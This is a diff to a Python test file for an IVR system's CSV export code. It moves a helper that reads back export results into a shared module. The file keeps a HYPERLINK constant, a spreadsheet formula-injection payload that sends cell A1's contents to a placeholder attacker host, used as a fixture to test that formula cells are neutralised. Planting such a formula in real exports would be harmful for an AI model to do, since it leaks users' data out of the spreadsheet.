@@ -2,9 +2,6 @@
 
 from __future__ import annotations
 
-import csv
-import io
-from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -22,6 +19,7 @@ from ivr.ops.exports import (
 )
 from ivr.security.audit import record
 from models import Account, Payment, SmsMessage
+from tests.export_helpers import export
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
@@ -45,14 +43,6 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 ])
 def test_formula_cells_are_neutralised(cell: object, exported: object) -> None:
     assert neutralise_cell(cell) == exported
-
-
-def export(app: Flask, exporter: Callable[[Session, io.StringIO], int]) -> list[dict[str, str]]:
-    """Run an exporter and read its CSV back."""
-    out = io.StringIO()
-    with db.transaction(app) as session:
-        exporter(session, out)
-    return list(csv.DictReader(io.StringIO(out.getvalue())))
 
 
 def plant(session: Session) -> None:
